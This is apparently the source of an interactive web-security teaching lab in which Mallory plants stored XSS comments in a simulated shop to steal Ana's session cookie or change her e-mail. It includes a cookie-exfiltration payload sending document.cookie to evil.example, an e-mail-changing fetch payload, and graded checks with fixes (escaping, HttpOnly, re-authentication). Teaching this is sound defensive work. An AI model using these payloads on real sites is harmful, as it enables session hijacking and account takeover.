import { logIn, passwords } from '../kit/accounts';
import { forging, submitting, visiting } from '../kit/actions';
import { defineLab, verdict } from '../model';
import { choices, inImage, SHOP, Shop } from './xssWorld';

const STEAL = "new Image().src = 'https://evil.example/?' + document.cookie";

const RIDE = "fetch('/email', { method: 'POST', body: 'email=mallory@evil.example' })";

const inScript = (code: string): string => `<script>${code}</script>`;

const help = (code: string): string => `/help?q=${encodeURIComponent(inImage(code))}`;

export const xss = defineLab({
  id: 'xss-steal-or-ride',
  title: 'Steal the cookie, or ride it',
  summary:
    'A comment with a script in it. HttpOnly keeps the cookie from the script, not the script from the session.',
  tags: ['S8', 'S14', 'S18', 'S21', 'S29', 'S30', 'F5'],
  concepts: ['xss-token-theft', 'cookie-httponly', 'reauthentication'],
  passages: [
    'session-hijacking/xss',
    'cookie-attributes/httponly',
    'session-hijacking/reauthentication',
    'request-origin/xss',
    'token-life/out-of-reach',
  ],
  minutes: 12,
  goal: {
    title: "Take over Ana's account by a script in the page",
    reached: (world: Shop) =>
      verdict(
        world.inside || world.ridden,
        world.ridden
          ? "Ana's e-mail is Mallory's now: the next password reset goes there."
          : "Mallory is in Ana's account with her cookie.",
        "Ana's account is hers still.",
      ),
  },
  task: 'Close the hole. Then make the next hole, in the help page that is not yours to mend, worth less: it must neither steal the session nor change the e-mail.',
  choices,
  code: [
    {
      party: 'shop',
      file: 'shop/server.js',
      text: `
app.get('/tent', (req, res) => {
  const items = comments.map((comment) => '<li>' + {{output}} + '</li>');
  res.send('<ul>' + items.join('') + '</ul>');
});

app.post('/login', (req, res) => {
  …
  res.cookie('sid', id, { {{httpOnly}}secure: true, sameSite: 'lax' });
});

app.post('/email', (req, res) => {
  const user = sessions.get(req.cookies.sid)?.user;
  if (!user) return res.sendStatus(401);
  {{reauthenticate}}
  accounts.get(user).email = req.body.email;
});`,
    },
  ],
  build: (chosen, setup) => new Shop(chosen, setup),
  steps: [
    {
      title: 'Mallory writes a comment',
      text: `The comment is a script: ${inScript(STEAL)}`,
      note: 'The shop keeps it like any other comment.',
      run: async (world) => {
        await world.comment(inScript(STEAL));
        return undefined;
      },
    },
    {
      title: 'Ana looks at the tent',
      text: 'Ana is logged in and reads what other customers say.',
      note: 'The script ran in the shop’s own page: to the browser it is the shop’s.',
      question: {
        kind: 'tick',
        prompt: 'Which of Ana’s cookies does the script send to evil.example?',
        options: () => [{ id: 'sid', label: 'sid, set at login' }],
        judge: (world) =>
          verdict(
            (world.loot ?? '').includes('sid='),
            'It is not HttpOnly, so document.cookie shows it.',
            'The script could not read it, or did not run.',
          ),
      },
      run: async (world) => {
        await world.anaSees('/tent');
        return world.loot ? `evil.example got ${world.loot}` : 'evil.example got no cookie.';
      },
    },
    {
      title: 'Mallory uses the cookie',
      text: 'Mallory opens the account page with what the script sent.',
      note: 'A stolen session works from anywhere.',
      run: async (world) =>
        (await world.useLoot()) ? "The shop shows Ana's account." : 'The shop asks to log in.',
    },
    {
      title: 'Mallory writes another comment',
      text: `This one does not need the cookie: ${inScript(RIDE)}. Ana looks at the tent again.`,
      note: 'The browser added the cookie by itself. HttpOnly would not have changed that.',
      run: async (world) => {
        await world.comment(inScript(RIDE));
        await world.ana.visit(`${SHOP}/tent`);
        return `Ana's e-mail is now ${world.emails.get('ana')}.`;
      },
    },
  ],
  actions: [
    {
      id: 'ana-logs-in',
      title: 'Ana logs in',
      by: 'ana',
      run: async (world) => (await logIn(world.ana, SHOP, 'ana')).page.text,
    },
    visiting('ana', 'Ana', `${SHOP}/tent`, (world: Shop) => world.ana),
    submitting('ana', 'Ana', (world: Shop) => world.ana),
    {
      id: 'mallory-comments',
      title:
        'Mallory writes a comment (the lab knows two scripts: one that sends the cookie, one that changes the e-mail)',
      by: 'mallory',
      fields: [{ id: 'comment', label: 'Comment', kind: 'multiline', start: inImage(STEAL) }],
      run: async (world, { comment = '' }) => {
        await world.comment(comment);
        return 'The comment is there for everyone who looks at the tent.';
      },
    },
    {
      id: 'mallory-uses',
      title: 'Mallory opens the account with what the script sent',
      by: 'mallory',
      run: async (world) => ((await world.useLoot()) ? "It is Ana's account." : 'The shop asks to log in.'),
    },
    forging('mallory', 'Mallory', `${SHOP}/account`, (world: Shop) => world.mallory, 'Cookie: sid='),
  ],
  checks: [
    {
      id: 'comment',
      kind: 'attack',
      title: 'A script in a comment',
      run: async (world: Shop) => {
        for (const wrap of [inScript, inImage]) {
          for (const code of [STEAL, RIDE]) await world.comment(wrap(code));
        }
        await world.anaSees('/tent');
        if (world.ridden)
          return { ok: false, reason: 'A comment still runs as a script and changes Ana’s e-mail.' };
        return verdict(
          world.loot === undefined,
          'Comments are text, whatever is in them.',
          'A comment still runs as a script: an attribute such as onerror needs no <script>.',
        );
      },
    },
    {
      id: 'steal',
      kind: 'attack',
      title: 'The hole in the help page, used to steal',
      run: async (world) => {
        await world.anaSees(help(STEAL));
        return verdict(
          !(await world.useLoot()),
          'The script runs and finds no cookie that it could read.',
          "The script reads the session cookie, and Mallory is in Ana's account.",
        );
      },
    },
    {
      id: 'ride',
      kind: 'attack',
      title: 'The hole in the help page, used to ride',
      run: async (world) => {
        await world.anaSees(help(RIDE));
        return verdict(
          !world.ridden,
          'The script can ask for the change, but does not know the password.',
          'The script changes Ana’s e-mail: the cookie goes along, HttpOnly or not.',
        );
      },
    },
    {
      id: 'comments',
      kind: 'honest',
      title: 'Comments are shown',
      run: async (world) => {
        await world.comment('I <3 this tent');
        const { page: shownPage } = await world.anaSees('/tent');
        return verdict(
          shownPage.text.includes('I <3 this tent'),
          'The comment reads as it was written.',
          'Comments are no longer shown as they were written.',
        );
      },
    },
    {
      id: 'email',
      kind: 'honest',
      title: 'Ana changes her e-mail',
      run: async (world) => {
        const account = await world.anaSees('/account');
        const form = account.page.forms?.[0];
        const fields = {
          email: 'ana@new.example',
          ...(form && 'password' in form.fields ? { password: passwords.ana ?? '' } : {}),
        };
        await account.submit({ action: '/email', method: 'POST', fields });
        return verdict(
          world.emails.get('ana') === 'ana@new.example',
          'Ana’s new e-mail is there.',
          'Ana can no longer change her e-mail.',
        );
      },
    },
  ],
  fixes: [
    {
      title: 'Escape, HttpOnly, and the password for what matters',
      choices: { output: 'escaped', httpOnly: 'on', reauthenticate: 'on' },
      why: 'Escaping closes the hole. HttpOnly and re-authentication limit what the next one can do.',
    },
  ],
});
